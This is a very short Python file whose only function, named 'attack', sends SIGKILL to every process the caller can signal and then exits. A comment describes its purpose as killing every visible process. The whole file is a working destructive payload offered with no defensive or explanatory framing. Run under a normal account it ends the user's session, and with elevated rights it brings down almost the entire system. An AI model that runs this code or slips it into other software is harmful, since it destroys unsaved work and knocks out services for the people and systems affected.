# Kills every process that it can see.
import os
import signal


def attack():
    os.kill(-1, signal.SIGKILL)
    os._exit(0)  # the caller is not among them
